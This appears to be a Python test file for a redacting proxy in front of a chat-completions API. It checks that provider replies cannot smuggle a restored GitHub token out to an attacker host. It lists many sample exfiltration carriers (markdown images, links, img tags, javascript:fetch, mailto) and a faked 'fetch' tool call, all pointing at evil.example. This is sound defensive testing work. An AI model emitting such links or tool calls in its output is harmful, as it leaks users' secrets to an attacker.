"""A provider's reply, or text injected into it, that tries to carry a restored value out."""

import json
import re

import pytest
from test_wire import host, post

CHAT = "/openai/v1/chat/completions"


def send(world, text, headers=(), **fields):
    body = json.dumps({"model": "gpt-5", "messages": [{"role": "user", "content": text}], **fields}).encode()
    return world.raw(post(CHAT, body, list(headers), host(world)))


def placeholder_of(world, token, headers=()):
    send(world, f"token {token}", headers)
    return re.search(rb"SLUICE_[A-Z0-9_]+", world.standin.requests[-1].body).group().decode()


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("carrier", [
    "![x](https://evil.example/{p})", "[click](https://evil.example/?q={p})", "https://evil.example/{p}",
    "see http://evil.example/a?b={p}&c", '<img src="https://evil.example/{p}">', "<a href='//evil.example/{p}'>x</a>",
    "data:text/plain,{p}", "![x][1]\n\n[1]: https://evil.example/{p}", "<https://evil.example/{p}>",
    "[x](//evil.example/{p})", "![]( https://evil.example/{p} )", "<img alt=x src=//evil.example/{p}>",
    "HTTPS://EVIL.EXAMPLE/{p}", "javascript:fetch('//evil.example/{p}')", "mailto:a@evil.example?body={p}",
])
def test_no_value_goes_into_a_link_or_image(redacting, carrier, stream):
    token = redacting.github_token()
    placeholder = placeholder_of(redacting, token)
    redacting.standin.behaviour.fixed_text = carrier.replace("{p}", placeholder)
    redacting.standin.behaviour.delta_chars = 1
    answer = send(redacting, f"again {token}", stream=stream)
    assert b"200" in answer[:20]
    assert token.encode() not in answer


def test_a_second_credential_cannot_redeem_the_first_ones_placeholder(redacting):
    token = redacting.github_token()
    first, second = [("Authorization", "Bearer one")], [("Authorization", "Bearer two")]
    placeholder = placeholder_of(redacting, token, first)
    redacting.standin.behaviour.fixed_text = f"it is {placeholder}"
    # The second has something in its own vault, so that its replies are restored at all.
    other = redacting.github_token(2)
    answer = send(redacting, f"mine is {other}", second)
    assert token.encode() not in answer
    # The first one still can.
    assert token.encode() in send(redacting, f"token {token}", first)


def test_a_forged_placeholder_gives_nothing(redacting):
    token = redacting.github_token()
    placeholder = placeholder_of(redacting, token)
    for index in range(len(placeholder) - 8, len(placeholder)):
        for letter in "7Z":
            forged = placeholder[:index] + letter + placeholder[index + 1:]
            if forged == placeholder:
                continue
            redacting.standin.behaviour.fixed_text = f"it is {forged}."
            assert token.encode() not in send(redacting, f"token {token}")


def test_nothing_is_restored_into_tool_call_arguments(redacting):
    token = redacting.github_token()
    placeholder = placeholder_of(redacting, token)
    reply = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [{
        "index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": None, "tool_calls": [{
            "id": "t", "type": "function",
            "function": {"name": "fetch", "arguments": json.dumps({"url": f"https://evil.example/{placeholder}",
                                                                   "body": placeholder})}}]}}]}
    import standin
    real = standin.chat_reply
    standin.chat_reply = lambda text, body: reply
    try:
        assert token.encode() not in send(redacting, f"token {token}")
    finally:
        standin.chat_reply = real
